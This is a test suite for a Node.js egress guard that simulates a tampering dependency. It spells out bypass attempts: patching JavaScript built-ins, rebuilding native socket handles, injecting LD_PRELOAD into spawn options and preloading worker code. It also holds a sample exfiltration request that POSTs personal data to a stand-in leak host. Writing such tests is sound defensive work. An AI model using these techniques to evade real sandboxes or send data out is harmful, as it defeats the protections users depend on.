import { join } from 'node:path';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { createGuardedFolder, type GuardedFolder } from './fixtures/guarded-program.ts';
import { listenOutside, type Outside } from './fixtures/outside.ts';

let folder: GuardedFolder;
let outside: Outside;

beforeAll(async () => {
  folder = await createGuardedFolder();
  outside = await listenOutside(join(folder.path, 'test.sock'));
});

afterAll(async () => {
  outside.close();
  await folder.remove();
});

beforeEach(() => {
  outside.heard();
});

describe('a dependency that tampers with the runtime', () => {
  it('does not talk the guard into a yes by patching built-ins', async () => {
    const answer = await folder.script(`
      import net from 'node:net';
      import dns from 'node:dns';
      import cp from 'node:child_process';
      claim.openEgress({ allow: [{ host: 'localhost', port: 1, purpose: 'test', private: true }] });
      const yes = { host: '127.0.0.1', port: ${outside.port}, purpose: 'x', private: true };
      const patches = [
        [Map.prototype, 'get', () => yes],
        [Map.prototype, 'has', () => true],
        [WeakSet.prototype, 'has', () => true],
        [String.prototype, 'toLowerCase', () => 'localhost'],
        [String.prototype, 'startsWith', () => true],
        [Array.prototype, 'includes', () => true],
        [Array, 'isArray', () => true],
        [Number, 'isInteger', () => true],
        [Date, 'now', () => 0],
        [Reflect, 'apply', (method, self, args) => Function.prototype.apply.call(method, self, args)],
        [Reflect, 'get', () => yes],
        [Object, 'freeze', (value) => value],
        [Function.prototype, 'bind', () => () => true],
        [net, 'isIP', () => 4],
        [net.BlockList.prototype, 'check', () => false],
        [net, '_normalizeArgs', () => [yes, null]],
        [Array.prototype, Symbol.iterator, function* () { yield yes; }],
        [Promise.prototype, 'then', () => yes],
      ];
      const ends = [];
      for (const [holder, name, value] of patches) {
        const before = Object.getOwnPropertyDescriptor(holder, name);
        const patch = { ...before, value };
        Object.defineProperty(holder, name, patch);
        const socket = net.connect(${outside.port}, '127.0.0.1');
        let looked = 'not yet';
        dns.lookup('secret.example.com', (error) => { looked = error?.code; });
        let started = 'OPEN';
        try { cp.spawn('true'); } catch (error) { started = error.code; }
        Object.defineProperty(holder, name, before);
        const connected = await ended(socket);
        ends.push([connected, looked, started].join(' '));
      }
      report(ends);
    `);
    expect(answer).toEqual(Array(18).fill('CW-EGR-001 CW-EGR-003 CW-EGR-005'));
    expect(outside.heard()).toEqual([]);
  });

  it('cannot take the guard off the native handles', async () => {
    const answer = await folder.script(`
      import net from 'node:net';
      const server = net.createServer().listen(0, '127.0.0.1');
      await new Promise((resolve) => server.on('listening', resolve));
      const prototype = Object.getPrototypeOf(server._handle);
      const tried = (act) => { try { return act(); } catch (error) { return error.constructor.name; } };
      report([
        tried(() => { prototype.connect = () => 0; return 'written'; }),
        tried(() => { Object.defineProperty(prototype, 'connect', { value: () => 0 }); return 'defined'; }),
        tried(() => delete prototype.connect),
      ]);
    `);
    expect(answer).toEqual(['TypeError', 'TypeError', 'TypeError']);
  });

  it('gets no connection from a request that it took out of an allowed one', async () => {
    const answer = await folder.script(`
      import net from 'node:net';
      import { createHook } from 'node:async_hooks';
      claim.openEgress({ allow: [{ host: '127.0.0.1', port: ${outside.httpPort}, purpose: 'test', private: true }] });
      const seen = {};
      createHook({ init(_id, type, _trigger, resource) { seen[type] = resource; } }).enable();
      await ended(net.connect(${outside.httpPort}, '127.0.0.1'));
      const handle = new seen.TCPWRAP.constructor(0);
      const status = handle.connect(new seen.TCPCONNECTWRAP.constructor(), '127.0.0.1', ${outside.port});
      await new Promise((resolve) => setTimeout(resolve, 100));
      report([status, refusals.map(({ way, target }) => way + ' ' + target)]);
    `);
    expect(answer).toEqual([-13, [`tcp 127.0.0.1:${outside.port}`]]);
    expect(outside.heard()).toEqual([]);
  });

  it('cannot turn the start of a sandboxed program into another program', async () => {
    const answer = await folder.script(`
      import diagnostics from 'node:diagnostics_channel';
      const spawn = claim.takeSpawnSandbox();
      const end = (child) => new Promise((resolve) => {
        for (const stream of child.stdio) stream.on('error', () => undefined);
        child.on('exit', resolve);
        child.on('error', (error) => resolve(codeOf(error)));
      });
      const start = () => end(spawn('/bin/sh', ['-c', 'exit 5'], { cwd: '/' }));
      const honest = await start();
      let spoil;
      diagnostics.tracingChannel('child_process.spawn').subscribe({ start({ options }) { spoil?.(options); } });
      const tried = [];
      for (const spoiler of [
        (options) => { options.file = '/bin/false'; },
        (options) => { options.args = ['/bin/sh', '-c', 'exit 7']; },
        (options) => { options.args = ['/bin/sh', '-c', 'exit 5', 'more']; },
        (options) => { options.envPairs.push('LD_PRELOAD=/tmp/evil.so'); },
        (options) => { options.uid = 1000; },
        (options) => {
          let reads = 0;
          Object.defineProperty(options.args, '2', { get: () => (reads++ > 0 ? 'exit 7' : 'exit 5') });
        },
      ]) {
        spoil = spoiler;
        tried.push(await start());
      }
      report([honest, tried]);
    `);
    // The last one is started all the same, from the guard's own copy of the words.
    expect(answer).toEqual([5, ['EACCES', 'EACCES', 'EACCES', 'EACCES', 'EACCES', 5]]);
  });

  it('gets no thread that runs its code before the guard', async () => {
    const answer = await folder.script(`
      import { SHARE_ENV, Worker } from 'node:worker_threads';
      const early = '--require=${join(folder.path, 'early.cjs')}';
      const source = "require('node:worker_threads').parentPort.postMessage(typeof globalThis.early + ' ' + Object.hasOwn(process, Symbol.for('chartwarden.egress')))";
      const said = (options) => new Promise((resolve) => {
        const worker = new Worker(source, { eval: true, ...options });
        worker.on('message', resolve);
        worker.on('error', (error) => resolve(codeOf(error)));
      });
      process.env.NODE_OPTIONS = early;
      process.execArgv.push(early);
      report([
        await said({}),
        await said({ env: { NODE_OPTIONS: early } }),
        await said({ env: SHARE_ENV }),
        await said({ execArgv: [] }),
        await said(Object.create({ eval: true, execArgv: ['--max-old-space-size=64'] })),
      ]);
    `);
    expect(answer).toEqual(Array(5).fill('undefined true'));
  });

  it('cannot start a thread of its own from inside the making of another', async () => {
    const answer = await folder.script(`
      import { Worker } from 'node:worker_threads';
      import { createHook } from 'node:async_hooks';
      let tried = 'not tried';
      createHook({ init(_id, type, _trigger, resource) {
        if (type !== 'WORKER' || tried !== 'not tried') return;
        tried = 'trying';
        try {
          const own = new resource.constructor(null, null, [], new Float64Array(4), true, false, '');
          tried = own.startThread() === undefined && own.threadId > 0 ? 'asked' : 'odd';
          globalThis.own = own;
        } catch (error) { tried = codeOf(error); }
      } }).enable();
      const worker = new Worker('require("node:worker_threads").parentPort.postMessage("alive")', { eval: true });
      const alive = await new Promise((resolve) => worker.on('message', resolve));
      report([alive, tried, globalThis.own?.loopStartTime?.() ?? -1]);
    `);
    // It may ask, but nothing starts: a thread that runs has a loop start time.
    expect(answer).toEqual(['alive', expect.stringMatching(/asked|odd/), -1]);
  });
});

describe('what a refusal tells', () => {
  it('is where to, never what; host names only by their end', async () => {
    const answer = await folder.script(`
      import net from 'node:net';
      import dns from 'node:dns';
      import cp from 'node:child_process';
      await fetch('https://jane-doe-hiv.leak.example.com/?ssn=123', { method: 'POST', body: 'Jane Doe' }).catch(() => 0);
      await ended(net.connect('/tmp/jane-doe.sock'));
      await new Promise((resolve) => dns.lookup('jane-doe\\n.example.com', resolve));
      await new Promise((resolve) => dns.lookup('jane-doe%00', resolve));
      try { cp.execSync('curl jane-doe'); } catch {}
      report(refusals.map(({ target }) => target));
    `);
    expect(answer).toEqual(['example.com:443', 'a unix socket', 'example.com', 'a host name', 'a program']);
  });

  it('reaches the listener from before it listened, and a failing listener changes nothing', async () => {
    const answer = await folder.script(`
      import net from 'node:net';
      claim.onRefused(() => { throw new Error('listener'); });
      report(await ended(net.connect(9, '127.0.0.1')));
    `);
    expect(answer).toBe('CW-EGR-001');
  });
});
